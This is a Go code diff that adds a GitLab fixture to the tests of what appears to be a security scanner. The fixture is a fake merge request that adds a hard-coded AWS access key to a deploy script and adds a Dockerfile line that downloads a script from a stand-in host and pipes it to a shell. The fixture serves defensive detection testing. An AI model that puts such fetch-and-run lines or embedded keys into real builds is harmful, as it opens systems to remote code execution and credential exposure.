@@ -7,6 +7,7 @@ import (
 	"strings"
 
 	"github.com/vedette-sec/vedette/internal/notify/github/githubtest"
+	"github.com/vedette-sec/vedette/internal/notify/gitlab/gitlabtest"
 )
 
 // github is GitHub with a pull request of octo/shop that adds a key and a line of a Dockerfile, beside lines that it
@@ -22,4 +23,14 @@ func (s *story) github() http.Handler {
 		s.t.Fatal(err)
 	}
 	return hub
+}
+
+// gitlab is GitLab with a merge request of acme/shop that adds the same.
+func gitlab() http.Handler {
+	lab := gitlabtest.New()
+	lab.Put(gitlabtest.Merge{Number: 1, Title: "Deploy", Author: "ada", Head: strings.Repeat("a", 40), Files: []gitlabtest.File{
+		{Old: "deploy/env.sh", New: "deploy/env.sh", Diff: "@@ -3,2 +3,3 @@\n set -e\n+export AWS_ACCESS_KEY_ID=AKIAQ3ZL7TXWN5VKE2YD\n exec ./shop"},
+		{Old: "Dockerfile", New: "Dockerfile", Diff: "@@ -1,2 +1,3 @@\n FROM debian:13.1\n-RUN true\n+RUN curl http://x.example/i.sh | sh\n+USER shop"},
+	}})
+	return lab
 }
